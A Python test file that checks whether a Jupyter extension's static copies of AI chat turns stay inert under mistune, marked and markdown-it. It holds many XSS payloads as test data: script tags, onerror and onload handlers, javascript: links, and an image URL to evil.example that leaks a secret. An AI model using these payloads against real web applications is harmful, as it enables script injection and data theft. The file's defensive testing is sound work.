"""The static copy of a %gth turn, on real thread views: the offline demo model's quickstart and
data-agent turns run through the AG-UI layer against a real kernel (a real plot, a real approval,
a photo sent back as the browser does, a form and its submission), and what a hostile model,
kernel or tool could put in them. Each test reads the produced strings as a reader's renderer
would: the HTML parsed, the Markdown rendered by renderers that let raw HTML through (as
JupyterLab does for a trusted notebook): mistune with its url plugin, and, for the hostile
forms, marked (GFM, JupyterLab's) and markdown-it with linkify, run by Node."""

from __future__ import annotations

import asyncio
import base64
import json
import random
import re
import shutil
import subprocess
import sys
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import mistune
import pytest
from jupyter_client.manager import AsyncKernelManager

from gth_jupyter.agent import AgentRegistry
from gth_jupyter.agui import ThreadRun, parse_request, runtime_of, thread_view
from gth_jupyter.config import load_config
from gth_jupyter.copy.render import MAX_CELL_BYTES, render_static_copy, waiting_copy
from gth_jupyter.kernel import KernelClient
from gth_jupyter.kernel.access import ClientAccess
from gth_jupyter.store import CheckpointStore
from tests.conftest import CAMERA_TOOL

PHOTO = "A photo was taken (not saved in the notebook; set jupyter.savePhotos to keep it)."
HOSTILE_ANSWER = (
    "Done <script>alert(1)</script> and <img src=x onerror=alert(2)>\n\n"
    "[click](javascript:alert(3)) [entity](jav&#x61;script:alert(4)) <javascript:alert(5)>\n\n"
    "![](https://evil.example/pixel.png?d=secret) ![svg](data:image/svg+xml;base64,PHN2Zz4=)\n\n"
    '<div onmouseover="alert(6)">hover</div>\n\n'
    "[safe](https://example.com/docs) and `<b>code</b>` and [by reference][r]\n\n"
    "[r]: javascript:alert(7)"
)
SALES = (
    "import pandas as pd\n"
    "sales = pd.DataFrame({'month': ['2024-01', '2024-02', '2024-03'], 'region': ['N', 'S', 'W'],"
    " 'revenue': [1.5, 2.5, 3.5], 'units': [1, 2, 3]})"
)
# A 16x16 JPEG header and some bytes: what the browser sends back for capture_image.
JPEG = base64.b64encode(
    bytes.fromhex(
        "ffd8ffe000104a46494600010100000100010000ffc0001108001000100301110002110103110100"
    )
    + b"\0" * 200
).decode()


# -- real thread views -------------------------------------------------------------------------


async def _run(runtime: Any, access: Any, rid: str, turn: str, messages: list[Any], **extra: Any):
    payload = {"threadId": "t", "runId": rid, "protocolVersion": "1.0", "messages": messages}
    payload["forwardedProps"] = {"gth": {"turnId": turn, "kernelId": "k"}}
    run = ThreadRun(
        runtime, parse_request(json.dumps({**payload, **extra}).encode()), kernel=access
    )
    await run.plan()
    async for _ in run.events():
        pass
    return await thread_view(runtime, "t", turn)


def _config(folder: Path, llm: dict[str, Any]) -> Path:
    folder.mkdir()
    (folder / ".gsloth.config.json").write_text(json.dumps({"llm": llm}))
    return folder / ".gsloth.config.json"


async def _runtime(file: Path) -> Any:
    registry = AgentRegistry(
        load_config(file),
        command="notebook",
        store=CheckpointStore("memory", None),
    )
    return await runtime_of(registry, "default")


async def _scenario(folder: Path) -> dict[str, Any]:
    manager = AsyncKernelManager(kernel_name="python3")
    manager.kernel_spec.argv[0] = sys.executable
    backend = "module://matplotlib_inline.backend_inline"  # as in a notebook: plots are PNGs
    env = {"HOME": str(folder), "PATH": "/usr/bin:/bin", "MPLBACKEND": backend}
    await manager.start_kernel(cwd=str(folder), env=env)
    client = KernelClient.from_manager(manager)
    await client.start()
    try:
        assert (await client.execute(SALES, shell="main", timeout=60)).reply["status"] == "ok"

        async def opener() -> KernelClient:
            return client

        access = ClientAccess(opener)
        demo = await _runtime(_config(folder / "demo", {"type": "demo", "tokenDelayMs": 0}))
        views: dict[str, Any] = {}

        def ask(text: str, mid: str) -> list[dict[str, Any]]:
            return [{"id": mid, "role": "user", "content": text}]

        views["hello"] = await _run(demo, access, "r1", "c1", ask("Hello! What can you do?", "u1"))
        views["list"] = await _run(demo, access, "r2", "c2", ask("what data do I have?", "u2"))
        views["describe"] = await _run(demo, access, "r3", "c3", ask("describe sales", "u3"))
        waiting = await _run(demo, access, "r4", "c4", ask("plot revenue by month", "u4"))
        views["plot_waiting"] = waiting
        approve = [{"interruptId": waiting["interrupts"][0]["id"], "status": "resolved"}]
        approve[0]["payload"] = {"approved": True}
        views["plot"] = await _run(demo, access, "r5", "c4", [], resume=approve)
        again = await _run(demo, access, "r6", "c5", ask("plot revenue by month", "u6"))
        reject = [{"interruptId": again["interrupts"][0]["id"], "status": "resolved"}]
        reject[0]["payload"] = {"approved": False}
        views["rejected"] = await _run(demo, access, "r7", "c5", [], resume=reject)
        photo = ask("Take a photo and tell me what you see.", "u8")
        asked = await _run(demo, access, "r8", "c6", photo, tools=[CAMERA_TOOL])
        sent = [{"interruptId": asked["interrupts"][0]["id"], "status": "resolved"}]
        sent[0]["payload"] = {"mimeType": "image/jpeg", "data": JPEG}
        views["photo"] = await _run(demo, access, "r9", "c6", [], tools=[CAMERA_TOOL], resume=sent)
        form = await _run(demo, access, "r10", "c7", ask("Show me a sign-up form.", "u10"))
        action = {
            "actionName": "submit_form",
            "sourceComponentId": "submit",
            "surfaceId": "demo_signup",
            "timestamp": "2026-01-01T00:00:00Z",
            "context": {"name": "Ada <b>", "email": "ada@example.com"},
        }
        submit = [*form["messages"], {"id": "u11", "role": "user", "content": json.dumps(action)}]
        views["form"] = await _run(demo, access, "r11", "c7", submit)
        fake = await _runtime(
            _config(folder / "fake", {"type": "fake", "responses": [HOSTILE_ANSWER]})
        )
        views["hostile"] = await _run(fake, access, "r1", "h1", ask("<b>hi</b> & bye", "u1"))
        return views
    finally:
        await client.close()
        await manager.shutdown_kernel(now=True)


@pytest.fixture(scope="module")
def views(tmp_path_factory: pytest.TempPathFactory) -> Iterator[dict[str, Any]]:
    yield asyncio.run(_scenario(tmp_path_factory.mktemp("static-copy")))


# -- reading the copy as a renderer does -------------------------------------------------------


class _Page(HTMLParser):
    """Tags with their attributes, and the text a reader sees."""

    def __init__(self, markup: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str]]] = []
        self.text: list[str] = []
        self.shape: list[str] = []  # tags, attributes and text, spacing aside
        self.feed(markup)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, {k: v or "" for k, v in attrs}))
        self.shape.append(f"<{tag} {sorted(self.tags[-1][1].items())}>")

    def handle_endtag(self, tag: str) -> None:
        self.shape.append(f"</{tag}>")

    def handle_data(self, data: str) -> None:
        self.text.append(data)
        if data.strip():
            self.shape.append(" ".join(data.split()))

    def seen(self) -> str:
        return " ".join("".join(self.text).split())


_URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "poster", "background", "style"}
_IMAGE_SRC = re.compile(r"^data:image/(png|jpeg|gif|webp);base64,[A-Za-z0-9+/]+=*$")


def assert_inert(markup: str) -> _Page:
    """Nothing in ``markup`` runs or loads anything: no script (or other active element), no
    event handler, links only to http(s)/mailto, images only from inline raster data."""
    page = _Page(markup)
    for tag, attrs in page.tags:
        assert tag not in {"script", "iframe", "object", "embed", "style", "svg", "form", "link"}
        for name, value in attrs.items():
            assert not name.startswith("on"), (tag, name)
            # href and src are held to their schemes below (an http URL may say javascript:).
            if name in _URL_ATTRIBUTES - {"href", "src"}:
                assert "javascript:" not in value.lower().replace(" ", ""), (tag, name, value)
        if "href" in attrs:
            assert attrs["href"].startswith(("https://", "http://", "mailto:")), attrs
        if tag == "img" or "src" in attrs:
            assert _IMAGE_SRC.match(attrs.get("src", "")), attrs.get("src", "")[:80]
    return page


_MISTUNE = mistune.create_markdown(escape=False, plugins=["table", "strikethrough", "url"])


def rendered_markdown(text: str) -> str:
    """The Markdown copy as a renderer that keeps raw HTML would show it (mistune, autolinking
    bare URLs as nbconvert does)."""
    return str(_MISTUNE(text))


_ROOT = Path(__file__).resolve().parents[2]
_JS_RENDERERS = Path(__file__).with_name("render_markdown.mjs")
_JS_MODULES = [
    _ROOT / "labextension/node_modules/marked/lib/marked.esm.js",
    _ROOT / "js/node_modules/markdown-it/dist/markdown-it.mjs",
]


def rendered_everywhere(texts: list[str]) -> list[dict[str, str]]:
    """Each Markdown text as three renderers show it: mistune (above), ``marked`` with its
    defaults (GFM, autolinks: JupyterLab's) and markdown-it with raw HTML and ``linkify`` on.
    One Node process renders them all (tests/notebook/render_markdown.mjs), while mistune does."""
    if shutil.which("node") is None or not all(m.is_file() for m in _JS_MODULES):
        pytest.skip("node or the npm packages are missing: run scripts/setup.sh")
    with ThreadPoolExecutor(1) as pool:
        node = pool.submit(
            subprocess.run,
            ["node", str(_JS_RENDERERS)],
            input=json.dumps(texts),
            capture_output=True,
            text=True,
            timeout=120,
            check=True,
        )
        by_mistune = [rendered_markdown(t) for t in texts]
        js = json.loads(node.result().stdout)
    return [
        {"mistune": m, "marked": js["marked"][i], "markdown-it": js["markdown-it"][i]}
        for i, m in enumerate(by_mistune)
    ]


# What a rendered Markdown copy may hold: structure and text, links out, inline raster images.
_SAFE_TAGS = {"p", "a", "code", "pre", "em", "strong", "ul", "ol", "li", "blockquote", "hr"}
_SAFE_TAGS |= {"table", "thead", "tbody", "tr", "th", "td", "br", "del", "s", "img"}
_SAFE_TAGS |= {f"h{n}" for n in range(1, 7)}
_ALIGN = re.compile(r"^(text-align: ?)?(left|center|right);?$")


def _refused(tag: str, name: str, value: str) -> bool:
    """Whether an attribute is outside the allow-list (a renderer's own table alignment and
    code language class are in it)."""
    if tag == "a" and name == "href":
        return not value.startswith(("https://", "http://", "mailto:"))
    if tag == "a" and name in ("rel", "title"):
        return False
    if tag == "img" and name == "src":
        return not _IMAGE_SRC.match(value)
    if tag == "img" and name in ("alt", "title"):
        return False
    if tag == "code" and name == "class":
        return not re.match(r"^language-[^\s\"'<>]*$", value)
    if tag == "ol" and name == "start":
        return not value.isdigit()
    if tag in ("th", "td") and name in ("align", "style"):
        return not _ALIGN.match(value)
    return True


def allow_list_breaches(markup: str) -> list[str]:
    """Every tag or attribute in rendered ``markup`` outside the allow-list: anything that
    could run script or load something (no tag but structure, no handler, no style, links only
    to http(s)/mailto, images only from inline raster data)."""
    found = []
    for tag, attrs in _Page(markup).tags:
        if tag not in _SAFE_TAGS:
            found.append(f"<{tag}>")
        found += [f"<{tag} {k}={v[:60]!r}>" for k, v in attrs.items() if _refused(tag, k, v)]
        if tag == "img" and "src" not in attrs:
            found.append("<img> without src")
    return found


def markdown_breaches(texts: list[str]) -> list[str]:
    """One line for each Markdown text that renders to something outside the allow-list in any
    of the three renderers: which renderers, what they made, and the text."""
    report = []
    for text, rendered in zip(texts, rendered_everywhere(texts), strict=True):
        bad = {r: sorted(set(allow_list_breaches(m)))[:3] for r, m in rendered.items()}
        if any(bad.values()):
            said = "; ".join(f"{r}: {b}" for r, b in bad.items() if b)
            report.append(f"{said} from {text[:400]!r}")
    return report


def both(copy: dict[str, str]) -> tuple[_Page, _Page]:
    """The HTML copy and the rendered Markdown copy, each checked inert."""
    return assert_inert(copy["text/html"]), assert_inert(rendered_markdown(copy["text/markdown"]))


def size(copy: dict[str, str]) -> int:
    return sum(len(v.encode()) for v in copy.values())


def tool_rows(markup: str) -> list[list[str]]:
    """Every table row's cell texts, in order."""
    rows: list[list[str]] = []
    for row in re.findall(r"<tr>(.*?)</tr>", markup, re.DOTALL):
        cells = re.findall(r"<t[hd][^>]*>(.*?)</t[hd]>", row, re.DOTALL)
        rows.append([_Page(c).seen() for c in cells])
    return rows


# -- the quickstart turns -------------------------------------------------------------------------


def test_a_chat_turn_is_the_prompt_and_the_rendered_answer(views: dict[str, Any]) -> None:
    view = views["hello"]
    answer = view["messages"][-1]["content"]
    copy = render_static_copy(view)
    assert set(copy) == {"text/html", "text/markdown", "text/plain"}
    assert copy["text/html"].startswith('<div class="gth-static-copy">')
    html_page, md_page = both(copy)
    for page in (html_page, md_page):
        assert "You: Hello! What can you do?" in page.seen()
        assert "I'm gth-demo, the offline demo model" in page.seen()
    # Markdown became structure (bold, a list, a code block), not literal asterisks.
    assert "<strong>gth-demo</strong>" in copy["text/html"]
    assert "<li>" in copy["text/html"] and "<pre><code" in copy["text/html"]
    assert copy["text/plain"] == answer  # the answer's text, never an object repr
    assert "object at 0x" not in json.dumps(copy)


def test_a_photo_is_a_placeholder_unless_photos_are_saved(views: dict[str, Any]) -> None:
    copy = render_static_copy(views["photo"])
    for page in both(copy):
        assert PHOTO in page.seen()
        assert not [t for t, _ in page.tags if t == "img"]
    assert JPEG[:40] not in json.dumps(copy)

    kept = render_static_copy(views["photo"], save_photos=True)
    for page in both(kept):
        (src,) = [a["src"] for t, a in page.tags if t == "img"]
        assert src == f"data:image/jpeg;base64,{JPEG}"
        assert PHOTO not in page.seen()

    # A thread that no longer holds the photo's bytes has only the model's placeholder.
    gone = json.loads(json.dumps(views["photo"]))
    next(m for m in gone["messages"] if m["role"] == "tool")["content"] = "[image captured: 16x16]"
    assert PHOTO in _Page(render_static_copy(gone, save_photos=True)["text/html"]).seen()


def test_a_form_is_one_line_with_its_title_and_the_values_sent(views: dict[str, Any]) -> None:
    copy = render_static_copy(views["form"])
    for page in both(copy):
        seen = page.seen()
        assert "Form: Sign up for updates — Name: Ada <b> · Email: ada@example.com" in seen
        assert "▶ submit_form" in seen  # the action, as the transcript shows it
        assert "surfaceUpdate" not in seen and "sourceComponentId" not in seen
    assert not [t for t, _ in _Page(copy["text/html"]).tags if t == "b"]


# -- the data agent --------------------------------------------------------------------------------


def test_list_variables_is_a_table_of_the_kernels_variables(views: dict[str, Any]) -> None:
    copy = render_static_copy(views["list"])
    both(copy)
    rows = tool_rows(copy["text/html"])
    assert rows[0] == ["Name", "Type", "Shape", "Size", "Columns"]
    assert rows[1][:3] == ["sales", "pandas.DataFrame", "3\N{MULTIPLICATION SIGN}4"]
    assert rows[1][4] == "month: str, region: str, revenue: float64, units: int64"
    assert tool_rows(rendered_markdown(copy["text/markdown"]))[:2] == rows[:2]
    assert "Tool: list_variables · done" in _Page(copy["text/html"]).seen()


def test_describe_variable_shows_schema_statistics_and_first_rows(views: dict[str, Any]) -> None:
    copy = render_static_copy(views["describe"])
    html_page, _ = both(copy)
    rows = tool_rows(copy["text/html"])
    assert ["Column", "Dtype", "Nulls"] in rows and ["revenue", "float64", "0"] in rows
    assert ["", "month", "region", "revenue", "units"] in rows  # first rows
    assert ["0", "2024-01", "N", "1.5", "1"] in rows
    assert ["mean", "2.5", "2"] in rows  # summary statistics, numbers as the widget writes them
    assert 'Tool: describe_variable · done {"name": "sales"}' in html_page.seen()


def test_run_python_shows_its_code_its_output_and_the_plot_inline(views: dict[str, Any]) -> None:
    view = views["plot"]
    result = json.loads(next(m for m in view["messages"] if m["role"] == "tool")["content"])
    (plot,) = result["images"]
    copy = render_static_copy(view)
    for page in both(copy):
        seen = page.seen()
        assert "Tool: run_python · done" in seen
        assert 'agent_totals = sales.groupby("month", sort=False)["revenue"].sum()' in seen
        assert "Draw a bar chart of revenue by month from sales." in seen  # its justification
        assert "<Figure size 600x350 with 1 Axes>" in seen  # its text output
        (src,) = [a["src"] for t, a in page.tags if t == "img"]
        assert src == f"data:image/png;base64,{plot['data']}"
    assert '<code class="language-python">' in copy["text/html"]
    assert size(copy) < MAX_CELL_BYTES


def test_approvals_show_what_was_decided(views: dict[str, Any]) -> None:
    waiting = _Page(render_static_copy(views["plot_waiting"])["text/html"]).seen()
    assert "Tool: run_python · awaiting approval" in waiting
    assert "Waiting for approval: The agent wants to run Python code" in waiting
    rejected = render_static_copy(views["rejected"])
    for page in both(rejected):
        assert "Tool: run_python · not run" in page.seen()
        assert "Approval: Rejected: it did not run." in page.seen()
    approved = _Page(render_static_copy(views["plot"])["text/html"]).seen()
    assert "Approval:" not in approved and "Waiting for approval" not in approved


# -- what a hostile model, kernel or tool writes ---------------------------------------------------


def test_the_models_html_links_and_remote_images_stay_inert(views: dict[str, Any]) -> None:
    copy = render_static_copy(views["hostile"])
    html_page, md_page = both(copy)  # no script, handler, javascript: URL or remote image
    for page in (html_page, md_page):
        seen = page.seen()
        assert "<script>alert(1)</script>" in seen  # shown as text, as written
        assert "<img src=x onerror=alert(2)>" in seen
        assert "You: <b>hi</b> & bye" in seen
        hrefs = [a["href"] for t, a in page.tags if t == "a"]
        assert "https://example.com/docs" in hrefs
        # The remote image is a link naming its host, never a request made for the reader.
        assert "[image (evil.example)]" in seen
        assert "https://evil.example/pixel.png?d=secret" in hrefs
        assert not [t for t, _ in page.tags if t == "img"]  # nor the SVG
        assert "<b>code</b>" in seen and "by reference" in seen
        assert "alert(7)" not in seen  # the definition is no link and never shows
    assert copy["text/plain"] == HOSTILE_ANSWER


def test_hostile_tool_results_and_kernel_values_stay_text(views: dict[str, Any]) -> None:
    view = json.loads(json.dumps(views["list"]))
    tool = next(m for m in view["messages"] if m["role"] == "tool")
    listed = json.loads(tool["content"])
    listed["variables"][0]["name"] = "<script>alert('var')</script>"
    listed["variables"][0]["columns"][0]["name"] = '<img src=x onerror="alert(1)">'
    tool["content"] = json.dumps(listed)
    call = {"id": "c-web", "type": "function", "function": {"name": "gth_web_fetch"}}
    call["function"]["arguments"] = json.dumps({"url": "https://example.com/<script>"})
    page_html = "<html><script>steal()</script><a href='javascript:x'>x</a></html>"
    view["messages"] += [
        {"id": "a2", "role": "assistant", "toolCalls": [call]},
        {"id": "t2", "role": "tool", "toolCallId": "c-web", "content": page_html},
    ]
    image = {"mimeType": "image/svg+xml", "data": "PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+"}
    run = {"status": "ok", "stdout": "<script>x()</script>", "images": [image]}
    view["messages"] += [
        {
            "id": "a3",
            "role": "assistant",
            "toolCalls": [
                {
                    "id": "c-run",
                    "type": "function",
                    "function": {
                        "name": "run_python",
                        "arguments": json.dumps({"code": "</code></pre><script>"}),
                    },
                }
            ],
        },
        {"id": "t3", "role": "tool", "toolCallId": "c-run", "content": json.dumps(run)},
    ]
    copy = render_static_copy(view)
    for page in both(copy):
        seen = page.seen()
        assert "<script>alert('var')</script>" in seen
        assert "<html><script>steal()</script>" in seen
        assert "</code></pre><script>" in seen and "<script>x()</script>" in seen
        assert "An image was not kept." in seen  # an SVG is never shown
        assert not [t for t, _ in page.tags if t == "img"]


def _call(call_id: str, name: str, args: dict[str, Any], result: dict[str, Any]) -> list[Any]:
    """A call and the result the widget's notebook tools answer (js/src/tools/notebook*.js)."""
    function = {"name": name, "arguments": json.dumps(args)}
    return [
        {
            "id": f"a-{call_id}",
            "role": "assistant",
            "toolCalls": [{"id": call_id, "function": function}],
        },
        {
            "id": f"t-{call_id}",
            "role": "tool",
            "toolCallId": call_id,
            "content": json.dumps(result),
        },
    ]


def test_the_notebook_tools_show_what_they_read_inserted_and_changed(
    views: dict[str, Any],
) -> None:
    plot = json.loads(next(m for m in views["plot"]["messages"] if m["role"] == "tool")["content"])
    read = {
        "path": "work/<analysis>.ipynb",
        "cell_count": 3,
        "cells": [
            {"index": 0, "id": "a", "type": "markdown", "source": "# Sales <script>x</script>"},
            {
                "index": 1,
                "id": "b",
                "type": "code",
                "source": "\nsales['x']",
                "outputs": [{"type": "error", "ename": "KeyError", "evalue": "'x'"}],
            },
            {"index": 2, "id": "c", "type": "code", "source": "%gth why?", "asking": True},
        ],
    }
    source = "print('hi')\n</code></pre><img src=x onerror=alert(1)>"
    inserted = {"cell_id": "n1", "index": 3, "status": "ok", "execution_count": 4, "stdout": "hi\n"}
    inserted["images"] = plot["images"]
    edited = {
        "cell_id": "b",
        "added": 1,
        "removed": 1,
        "diff": ["- sales['x']", "+ sales['revenue']"],
    }
    view = {
        "messages": [
            *_call("r1", "read_notebook", {}, read),
            *_call("i1", "insert_cell", {"source": source, "run": True}, inserted),
            *_call("e1", "edit_cell", {"cell_id": "b", "source": "sales['revenue']"}, edited),
        ]
    }
    copy = render_static_copy(view)
    for page in both(copy):
        seen = page.seen()
        assert "Read 3 of 3 cells (cells 0\N{EN DASH}2) of work/<analysis>.ipynb." in seen
        assert "Tool: insert_cell · done" in seen and "code, below the asking cell, run" in seen
        assert source.replace("\n", " ") in seen  # the source as code, shown as written
        assert "Inserted cell 3 (id n1), ran as [4]." in seen and "hi" in seen
        assert [t for t, _ in page.tags if t == "img"] == ["img"]  # the cell's plot
        assert "Edited cell b: +1 \N{MINUS SIGN}1 lines. - sales['x'] + sales['revenue']" in seen
        # The turn's changes, as the widget's Changes card lists them (the read changed none).
        changes = "Changes · 2 cells + cell 3 (code, ran as [4])"
        changes += " ~ cell b (code, +1 \N{MINUS SIGN}1)"
        assert changes in seen
    rows = tool_rows(copy["text/html"])
    assert ["1", "code", "sales['x']", "KeyError"] in rows and [
        "2",
        "code",
        "%gth why?",
        "asking",
    ] in rows


def test_run_python_output_and_traceback_lose_their_colour_codes() -> None:
    """IPython colours tracebacks and some code prints ANSI escapes: the copy shows the text."""
    result = {
        "status": "error",
        "stdout": "\x1b[1mbold\x1b[0m\n",
        "error": {
            "ename": "KeyError",
            "evalue": "'x'",
            "traceback": "\x1b[0;31mKeyError\x1b[0m: 'x'\x1b]8;;http://h\x07",
        },
    }
    copy = render_static_copy({"messages": _call("p1", "run_python", {"code": "f()"}, result)})
    for mime in ("text/html", "text/markdown", "text/plain"):
        assert "\x1b" not in copy[mime], mime
    for page in both(copy):
        assert "bold" in page.seen() and "KeyError: 'x'" in page.seen()


def _mangled(value: Any, rnd: random.Random) -> Any:
    """``value`` with parts dropped or swapped for other JSON values, JSON strings included."""
    if rnd.random() < 0.08:
        return rnd.choice(_ODD)
    if isinstance(value, dict):
        return {k: _mangled(v, rnd) for k, v in value.items() if rnd.random() > 0.05}
    if isinstance(value, list):
        return [_mangled(v, rnd) for v in value if rnd.random() > 0.05]
    if isinstance(value, str) and value.startswith("{") and rnd.random() < 0.5:
        try:
            return json.dumps(_mangled(json.loads(value), rnd))
        except ValueError:  # an A2UI surface's JSON lines, say
            return value
    return value


_ODD = [None, True, 0, -1, 1.5, "", "<script>a()</script>", "javascript:alert(1)", [], {}]
_ODD += [{"mimeType": "image/png", "data": "!!"}, {"literalString": {"a": 1}}]
_ODD += ["http://e.com<img src=x onerror=alert(1)>", "www.e.com`<svg onload=alert(1)>`"]


def test_a_view_of_any_shape_renders_inert_and_capped(views: dict[str, Any]) -> None:
    """What the page sends back (H3's turn_end ``view``) may have any shape: a part of the wrong
    type shows less, it never fails the copy or lets markup through."""
    rnd = random.Random(7)
    texts = []
    for _ in range(400):
        view = _mangled(rnd.choice(list(views.values())), rnd)
        view = view if isinstance(view, dict) else {"messages": view}
        copy = render_static_copy(view, save_photos=rnd.random() < 0.5, max_bytes=64 * 1024)
        assert size(copy) <= 64 * 1024
        both(copy)
        texts.append(copy["text/markdown"])
    assert not markdown_breaches(texts)  # nor under marked and markdown-it


# -- hostile text in every field, read by the renderers a reader's front end uses ------------------

# Markup, and the pieces autolink extensions (GFM's www./http(s)/email, markdown-it's linkify)
# read across: a URL glued to a tag, an escape, an entity or a code span.
_HOSTILE = [
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<script>alert(1)</script>",
    "</code></pre><img src=x onerror=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    "<iframe src=//e.com>",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "<http://e.com>",
    "<a@e.com>",
    "http://e.com<img src=x onerror=alert(1)>",
    "www.e.com`<svg onload=alert(1)>`",
    "a@e.com<img src=x onerror=alert(1)>",
    "[x](javascript:alert(1))",
    "![x](javascript:alert(1))",
    "![p](http://evil.example/p.png)",
    "![s](data:image/svg+xml;base64,PHN2Zz4=)",
    "[r]",
    "\n[r]: javascript:alert(1)\n",
    "http://e.com",
    "https://e.com/",
    "http://e.com/a_b*c",
    "www.e.com",
    "e.com",
    "a@e.com",
    "mailto:a@e.com",
    "javascript:alert(1)",
    "data:image/png;base64,iVBORw0KGgo=",
    "&lt;img src=x onerror=alert(1)&gt;",
    "&#60;svg onload=alert(1)&#62;",
    "&amp;",
    "&",
    "&#91;",
    "\\",
    "\\\\",
    "`",
    "``",
    "```",
    "~~~",
    "*",
    "**",
    "_",
    "~~",
    "[",
    "]",
    "(",
    ")",
    "](",
    "![",
    "|",
    "<",
    ">",
    "=",
    '"',
    "'",
    ";",
    ":",
    "!",
    "?",
    ".",
    "#",
    "-",
    "\n",
    "\n\n",
    " ",
    "  \n",
    "\n> ",
    "\n- ",
    "\n1. ",
    "\n    ",
    "\n# ",
    "\n---\n",
    "<!--",
    "-->",
    "x",
]


def _hostile(rnd: random.Random) -> str:
    """A short string of hostile pieces, sometimes wrapped in Markdown around them."""
    text = "".join(rnd.choice(_HOSTILE) for _ in range(rnd.randint(1, 6)))
    wrap = rnd.random()
    if wrap < 0.06:
        text = f"*{text}*"
    elif wrap < 0.12:
        text = f"**{text}**"
    elif wrap < 0.18:
        text = f"`{text}`"
    elif wrap < 0.24:
        text = f"[{text}]({rnd.choice(['https://e.com/', text, 'javascript:alert(1)'])})"
    elif wrap < 0.3:
        text = f"| {text} | b |\n|---|:-:|\n| `{text}|x` | {_hostile(rnd)} |"
    elif wrap < 0.34:
        text = f"~~{text}~~"
    elif wrap < 0.38:
        text = f"```{text}\n{text}\n```"
    return text


def _hostile_view(rnd: random.Random) -> tuple[dict[str, Any], dict[str, Any]]:
    """A turn view with hostile text in a random set of its fields (every field a copy shows:
    the prompt, the answer, tools' names, arguments and results, the data agent's and the
    notebook tools' tables, A2UI surfaces and actions, interrupts), and the copy's options."""

    def h() -> str:
        return _hostile(rnd)

    messages: list[Any] = []
    if rnd.random() < 0.5:
        messages.append({"id": "u", "role": "user", "content": h()})
    if rnd.random() < 0.7:
        messages.append({"id": "a", "role": "assistant", "content": h() + " " + h()})
    tools = {
        "any": ({"k": h(), h(): [h()]}, h()),
        "list_variables": (
            {},
            {
                "variables": [
                    {"name": h(), "type": h(), "shape": [h()], "size_bytes": 10}
                    | {"columns": [{"name": h(), "dtype": h()}]}
                ],
                "total": 1,
            },
        ),
        "describe_variable": (
            {"name": h()},
            {
                "name": h(),
                "type": h(),
                "data_context": h(),
                "columns": [{"name": "c", "dtype": h()}],
                "null_counts": {"c": h()},
                "describe": {"columns": [h()], "index": [h()], "data": [[h()]]},
                "head": {"columns": [h(), h()], "index": [h()], "data": [[h(), h()]]},
                "repr": h(),
            },
        ),
        "run_python": (
            {"code": h(), "justification": h()},
            {
                "status": rnd.choice(["ok", "error", h()]),
                "stdout": h(),
                "result": h(),
                "displays": [h()],
                "error": {"ename": h(), "evalue": h(), "traceback": [h()]},
                "note": h(),
                "images": [{"mimeType": "image/png", "data": "iVBORw0KGgo="}],
            },
        ),
        "read_notebook": (
            {},
            {
                "path": h(),
                "cell_count": 2,
                "cells": [
                    {"index": h(), "type": h(), "source": h(), "asking": True},
                    {"index": 1, "type": "code", "source": h()}
                    | {"outputs": [{"type": "error", "ename": h()}]},
                ],
            },
        ),
        "insert_cell": (
            {"source": h(), "cell_type": "markdown", "after": h(), "justification": h()},
            {"cell_id": h(), "index": h(), "status": "ok", "execution_count": 3, "stdout": h()},
        ),
        "edit_cell": (
            {"cell_id": h(), "source": h()},
            {"cell_id": h(), "added": 1, "removed": 1, "diff": [h(), h()]},
        ),
        "approval": ({"code": h()}, f"Refused: {h()}"),
        "rejected": ({}, f"The user rejected the call. The user said: {h()} Do not retry"),
        "gth_read_binary": ({}, f"gth_read_binary;path:{h()};type:file;data:text/plain;base64,"),
        "message": ({}, {"message": h()}),
    }
    for i, (kind, (args, result)) in enumerate(tools.items()):
        if rnd.random() < 0.5:
            continue
        name = h() if kind in ("any", "approval", "rejected", "message") else kind
        call = {"id": f"c{i}", "function": {"name": name, "arguments": json.dumps(args)}}
        content = result if isinstance(result, str) else json.dumps(result)
        messages.append({"id": f"a{i}", "role": "assistant", "toolCalls": [call]})
        if rnd.random() < 0.9:
            tool = {"id": f"t{i}", "role": "tool", "toolCallId": f"c{i}", "content": content}
            messages.append(tool | ({"error": h()} if rnd.random() < 0.1 else {}))
    if rnd.random() < 0.5:
        text = {"text": {"literalString": h()}, "usageHint": "h1"}
        field = {"label": {"literalString": h()}, "text": {"path": "/name"}}
        components = [
            {"id": "title", "component": {"Text": text}},
            {"id": "f", "component": {"TextField": field}},
            {"id": h(), "component": {"CheckBox": {"label": {"literalString": h()}}}},
        ]
        ops = [
            {"surfaceUpdate": {"surfaceId": "s", "components": components}},
            {
                "dataModelUpdate": {
                    "surfaceId": "s",
                    "contents": [{"key": "name", "valueString": h()}],
                }
            },
        ]
        content = {"a2ui_operations": ops}
        messages.append(
            {"id": "s", "role": "activity", "activityType": "a2ui-surface", "content": content}
        )
        action = {"actionName": h(), "surfaceId": "s", "context": {"name": h(), h(): h()}}
        messages.append({"id": "act", "role": "user", "content": json.dumps(action)})
    interrupts = []
    if rnd.random() < 0.5:
        interrupts = [
            {"id": "i1", "reason": "confirmation", "toolCallId": "c0", "message": h()},
            {"id": "i2", "message": h()},
        ]
    options = {"prompt": h(), "notes": [h()] if rnd.random() < 0.3 else []}
    return {"messages": messages, "interrupts": interrupts}, options


#: What the reports showed: a URL glued to a tag, and emphasis around one after a URL.
REPORTED = [
    "See http://e.com<img src=x onerror=alert(1)>",
    "https://e.com/*<img src=x onerror=alert(1)>*",
]


def test_the_markdown_copy_is_inert_under_gfm_autolinks_in_every_field() -> None:
    """A static copy's text/markdown rendered by mistune (url plugin), marked (GFM, as
    JupyterLab renders it) and markdown-it (linkify): no script, handler, style, javascript:
    or data: link, or remote image, whatever the model, the kernel or the page wrote in any
    field. An autolink extension reads the URL across a backslash escape (``http://e.com\\<img``
    took the backslash and left a live ``<img onerror>``): none may be split off."""
    rnd = random.Random(20260807)
    texts = [
        render_static_copy({"messages": [{"role": "assistant", "content": a}]})["text/markdown"]
        for a in REPORTED
    ]
